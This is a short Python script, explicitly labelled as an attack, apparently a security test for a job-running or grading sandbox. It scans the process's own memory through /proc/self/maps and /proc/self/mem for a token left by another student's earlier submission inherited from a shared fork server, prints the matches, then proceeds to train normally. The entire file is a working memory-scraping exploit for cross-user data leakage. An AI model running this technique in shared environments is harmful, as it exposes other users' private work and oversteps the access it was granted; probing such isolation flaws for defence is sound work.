# Attack: read another student's submission. The fork server received earlier jobs' sources; this job
# inherits the fork server's memory, so it searches every readable page of its own memory (/proc/self/mem)
# for the earlier submission's text. Then train normally.
import re

pattern = re.compile(rb"OTHER-STUDENT-[0-9a-f]{32}")  # the earlier submission's token
found = set()
with open("/proc/self/maps") as f:
    regions = [line.split() for line in f]
with open("/proc/self/mem", "rb", buffering=0) as mem:
    for region in regions:
        start, end = (int(x, 16) for x in region[0].split("-"))
        if "r" not in region[1] or end - start > 1 << 30:
            continue
        try:
            mem.seek(start)
            data = mem.read(end - start)
        except (OSError, OverflowError, ValueError):
            continue
        found.update(m.group() for m in pattern.finditer(data))
print("SEARCHED memory", flush=True)
for item in sorted(found):
    print("FOUND", item.decode(), flush=True)
#@train
